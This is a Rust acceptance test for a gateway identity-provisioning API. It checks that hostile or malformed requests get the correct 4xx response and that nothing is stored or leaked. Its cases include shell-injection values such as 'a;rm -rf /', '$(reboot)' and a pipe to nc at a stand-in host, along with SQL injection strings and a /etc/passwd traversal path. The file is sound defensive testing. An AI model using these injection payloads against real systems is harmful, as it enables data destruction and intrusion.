//! Acceptance 6: malformed and hostile requests get the right 4xx, naming the parameter, and
//! nothing is stored. A real gateway listens at the port the requests name, so a request that
//! wrongly passed validation would deploy and fail the final count.

use crate::http_support;

use fake_fcc::Sessions;
use http_support::*;

struct Case {
    name: &'static str,
    method: &'static str,
    path: String,
    token: Option<&'static str>,
    /// Content type and body.
    body: Option<(&'static str, Vec<u8>)>,
    status: u16,
    /// The parameter a 400 must name.
    parameter: Option<&'static str>,
}

fn get(
    name: &'static str,
    path: String,
    token: Option<&'static str>,
    status: u16,
    parameter: Option<&'static str>,
) -> Case {
    Case {
        name,
        method: "GET",
        path,
        token,
        body: None,
        status,
        parameter,
    }
}

fn post(
    name: &'static str,
    content_type: &'static str,
    body: Vec<u8>,
    token: Option<&'static str>,
    status: u16,
    parameter: Option<&'static str>,
) -> Case {
    Case {
        name,
        method: "POST",
        path: "/v3/identities".to_owned(),
        token,
        body: Some((content_type, body)),
        status,
        parameter,
    }
}

fn cases(port: u16) -> Vec<Case> {
    let gw = format!("ip=127.0.0.1&port={port}");
    let id = |query: &str| format!("/v3/identity?{query}");
    let serial = |s: &str| id(&format!("serialNumber={}&{gw}", encode(s)));
    let json = |v: serde_json::Value| v.to_string().into_bytes();
    let b = Some(BOTH);
    vec![
        // serialNumber
        get(
            "no parameters at all",
            "/v3/identity".into(),
            b,
            400,
            Some("serialNumber"),
        ),
        get("missing serial", id(&gw), b, 400, Some("serialNumber")),
        get(
            "empty serial",
            id(&format!("serialNumber=&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "shell: a;rm -rf /",
            serial("a;rm -rf /"),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "shell: $(reboot)",
            serial("$(reboot)"),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "shell: backticks",
            serial("`id`"),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "shell: pipe",
            serial("x|nc evil 1"),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "SQL: quote drop table",
            serial("'; DROP TABLE identities; --"),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "65-char serial",
            serial(&"A".repeat(65)),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "newline in serial",
            id(&format!("serialNumber=GW%0A1&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "NUL in serial",
            id(&format!("serialNumber=GW%001&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "non-UTF-8 serial",
            id(&format!("serialNumber=GW%FF%FE&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "broken percent-escape",
            id(&format!("serialNumber=GW%G1&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "serial given twice",
            id(&format!("serialNumber=GW-1&serialNumber=GW-2&{gw}")),
            b,
            400,
            Some("serialNumber"),
        ),
        get(
            "unicode serial",
            serial("GW-ü"),
            b,
            400,
            Some("serialNumber"),
        ),
        // ip and port (the SQL-ish serial is a valid endpoint name: the port stops it)
        get(
            "bad ip",
            id(&format!("serialNumber=GW-1&ip=999.1.1.1&port={port}")),
            b,
            400,
            Some("ip"),
        ),
        get(
            "host name as ip",
            id(&format!("serialNumber=GW-1&ip=localhost&port={port}")),
            b,
            400,
            Some("ip"),
        ),
        get(
            "unspecified ip",
            id(&format!("serialNumber=GW-1&ip=0.0.0.0&port={port}")),
            b,
            400,
            Some("ip"),
        ),
        get(
            "multicast ip",
            id(&format!("serialNumber=GW-1&ip=224.0.0.1&port={port}")),
            b,
            400,
            Some("ip"),
        ),
        get(
            "IPv6 multicast ip",
            id(&format!("serialNumber=GW-1&ip=ff02%3A%3A1&port={port}")),
            b,
            400,
            Some("ip"),
        ),
        get(
            "port 0",
            id("serialNumber=GW-1&ip=127.0.0.1&port=0"),
            b,
            400,
            Some("port"),
        ),
        get(
            "port 70000",
            id("serialNumber=GW-1&ip=127.0.0.1&port=70000"),
            b,
            400,
            Some("port"),
        ),
        get(
            "port abc",
            id("serialNumber=GW-1&ip=127.0.0.1&port=abc"),
            b,
            400,
            Some("port"),
        ),
        get(
            "port -1",
            id("serialNumber=GW-1&ip=127.0.0.1&port=-1"),
            b,
            400,
            Some("port"),
        ),
        get(
            "SQL: ' OR 1=1 -- with port 0",
            id(&format!(
                "serialNumber={}&ip=127.0.0.1&port=0",
                encode("' OR 1=1 --")
            )),
            b,
            400,
            Some("port"),
        ),
        // optional fields (validated by the core)
        get(
            "category staging",
            id(&format!("serialNumber=GW-1&{gw}&category=staging")),
            b,
            400,
            Some("category"),
        ),
        get(
            "apiAddress ftp",
            id(&format!("serialNumber=GW-1&{gw}&apiAddress=ftp%3A%2F%2Fx")),
            b,
            400,
            Some("apiAddress"),
        ),
        get(
            "apiAddress not a URL",
            id(&format!("serialNumber=GW-1&{gw}&apiAddress=not+a+url")),
            b,
            400,
            Some("apiAddress"),
        ),
        get(
            "control char in hardwareVersion",
            id(&format!("serialNumber=GW-1&{gw}&hardwareVersion=a%07b")),
            b,
            400,
            Some("hardwareVersion"),
        ),
        get(
            "300-char ledConfig",
            id(&format!(
                "serialNumber=GW-1&{gw}&ledConfig={}",
                "x".repeat(300)
            )),
            b,
            400,
            Some("ledConfig"),
        ),
        get(
            "non-UTF-8 radioConfig",
            id(&format!("serialNumber=GW-1&{gw}&radioConfig=%C3%28")),
            b,
            400,
            Some("radioConfig"),
        ),
        // authentication
        get("no token", serial("GW-1"), None, 401, None),
        get(
            "wrong token",
            serial("GW-1"),
            Some("not-a-valid-token-at-all"),
            401,
            None,
        ),
        get(
            "token as query parameter",
            format!("{}&token={BOTH}", serial("GW-1")),
            None,
            401,
            None,
        ),
        get(
            "read token provisioning",
            serial("GW-1"),
            Some(READ),
            403,
            None,
        ),
        get(
            "provision token listing",
            "/v3/enrollment-ids".into(),
            Some(PROV),
            403,
            None,
        ),
        get(
            "provision token exporting",
            "/v3/enrollment-ids.csv".into(),
            Some(PROV),
            403,
            None,
        ),
        get("no token on metrics", "/metrics".into(), None, 401, None),
        // listing
        get(
            "limit abc",
            "/v3/enrollment-ids?limit=abc".into(),
            Some(READ),
            400,
            Some("limit"),
        ),
        get(
            "limit -1",
            "/v3/enrollment-ids?limit=-1".into(),
            Some(READ),
            400,
            Some("limit"),
        ),
        get(
            "limit 5000",
            "/v3/enrollment-ids?limit=5000".into(),
            Some(READ),
            400,
            Some("limit"),
        ),
        get(
            "limit 0",
            "/v3/enrollment-ids?limit=0".into(),
            Some(READ),
            400,
            Some("limit"),
        ),
        get(
            "order xyz",
            "/v3/enrollment-ids?order=xyz".into(),
            Some(READ),
            400,
            Some("order"),
        ),
        get(
            "last garbage",
            "/v3/enrollment-ids?last=5f2b%27%20OR%201%3D1".into(),
            Some(READ),
            400,
            Some("last"),
        ),
        get(
            "last negative",
            "/enrollment-ids?last=-5".into(),
            Some(READ),
            400,
            Some("last"),
        ),
        // lookups
        get(
            "enrollment-id without serial",
            "/v3/enrollment-id".into(),
            Some(READ),
            400,
            Some("serialNumber"),
        ),
        get(
            "enrollment-id SQL-ish",
            format!("/v3/enrollment-id?serialNumber={}", encode("' OR 1=1 --")),
            Some(READ),
            404,
            None,
        ),
        get(
            "verification-key SQL-ish",
            format!("/verification-key?serialNumber={}", encode("GW' OR '1'='1")),
            Some(READ),
            404,
            None,
        ),
        get(
            "verification-key shell",
            format!("/v3/verification-key?serialNumber={}", encode("$(reboot)")),
            Some(READ),
            400,
            Some("serialNumber"),
        ),
        // limits and routing
        get(
            "query string over 8 KiB",
            id(&format!("serialNumber=GW-1&{gw}&x={}", "a".repeat(9000))),
            b,
            414,
            None,
        ),
        get(
            "unknown path",
            "/v3/identity/../../etc/passwd".into(),
            b,
            404,
            None,
        ),
        Case {
            name: "DELETE identity",
            method: "DELETE",
            path: serial("GW-1"),
            token: b,
            body: None,
            status: 405,
            parameter: None,
        },
        post(
            "body over 64 KiB",
            "application/json",
            json(
                serde_json::json!({"serialNumber": "GW-1", "ip": "127.0.0.1", "port": port, "hardwareVersion": "x".repeat(70_000)}),
            ),
            b,
            413,
            None,
        ),
        post(
            "bad JSON",
            "application/json",
            b"{\"serialNumber\": ".to_vec(),
            b,
            400,
            None,
        ),
        post(
            "JSON array",
            "application/json",
            b"[1,2]".to_vec(),
            b,
            400,
            None,
        ),
        post(
            "unknown field",
            "application/json",
            json(
                serde_json::json!({"serialNumber": "GW-1", "port": port, "ip": "127.0.0.1", "serial": "x"}),
            ),
            b,
            400,
            Some("serial"),
        ),
        post(
            "port as text",
            "application/json",
            json(serde_json::json!({"serialNumber": "GW-1", "ip": "127.0.0.1", "port": "abc"})),
            b,
            400,
            Some("port"),
        ),
        post(
            "port as bool",
            "application/json",
            json(serde_json::json!({"serialNumber": "GW-1", "ip": "127.0.0.1", "port": true})),
            b,
            400,
            Some("port"),
        ),
        post(
            "serial as number",
            "application/json",
            json(serde_json::json!({"serialNumber": 42, "ip": "127.0.0.1", "port": port})),
            b,
            400,
            Some("serialNumber"),
        ),
        post(
            "shell serial in JSON",
            "application/json",
            json(serde_json::json!({"serialNumber": "$(reboot)", "ip": "127.0.0.1", "port": port})),
            b,
            400,
            Some("serialNumber"),
        ),
        post(
            "form body",
            "application/x-www-form-urlencoded",
            b"serialNumber=GW-1".to_vec(),
            b,
            415,
            None,
        ),
        post(
            "read token posting",
            "application/json",
            json(serde_json::json!({"serialNumber": "GW-1", "ip": "127.0.0.1", "port": port})),
            Some(READ),
            403,
            None,
        ),
        post(
            "no token posting",
            "application/json",
            json(serde_json::json!({"serialNumber": "GW-1", "ip": "127.0.0.1", "port": port})),
            None,
            401,
            None,
        ),
    ]
}

#[tokio::test]
async fn hostile_requests_get_the_right_4xx_and_store_nothing() {
    let server = Server::start(Options::default()).await;
    let (gw, _handle) = gateway(Sessions::Forever, &[]).await;
    let cases = cases(gw.port());
    assert!(cases.len() >= 30);
    let mut failures = Vec::new();
    for case in &cases {
        let url = format!("{}{}", server.base, case.path);
        let method = reqwest::Method::from_bytes(case.method.as_bytes()).unwrap();
        let mut rb = server.client.request(method, &url);
        if let Some(t) = case.token {
            rb = rb.bearer_auth(t);
        }
        if let Some((ct, body)) = &case.body {
            rb = rb.header("content-type", *ct).body(body.clone());
        }
        let response = rb.send().await.unwrap();
        let status = response.status().as_u16();
        let www = response.headers().get("www-authenticate").cloned();
        let text = response.text().await.unwrap();
        if status != case.status {
            failures.push(format!(
                "{}: expected {}, got {status}: {text}",
                case.name, case.status
            ));
            continue;
        }
        let json: serde_json::Value = match serde_json::from_str(&text) {
            Ok(j) => j,
            Err(_) => {
                failures.push(format!("{}: error body is not JSON: {text}", case.name));
                continue;
            }
        };
        if !json["error"].is_string() {
            failures.push(format!("{}: no `error` message: {text}", case.name));
        }
        if let Some(p) = case.parameter
            && json["parameter"] != p
        {
            failures.push(format!(
                "{}: expected parameter `{p}` named: {text}",
                case.name
            ));
        }
        if status == 401 && www.is_none() {
            failures.push(format!("{}: 401 without WWW-Authenticate", case.name));
        }
        // Tokens are never echoed.
        if text.contains(BOTH) || text.contains(READ) {
            failures.push(format!("{}: a token is echoed: {text}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );

    // Nothing stored: no deployed, failed or in-flight row, an empty listing, a header-only CSV.
    for state in ["deployed", "failed", "in_flight"] {
        let sample = format!("pep_store_identities{{state=\"{state}\"}}");
        assert_eq!(server.metric(&sample).await, 0.0, "{sample}");
    }
    assert!(server.walk(1000, "ASC").await.is_empty());
    let (status, csv) = server.get_text("/v3/enrollment-ids.csv", Some(READ)).await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1, "{csv}");

    // Tokens never reach the log.
    let log = server.log();
    assert!(!log.contains(BOTH) && !log.contains(READ) && !log.contains(PROV));
}
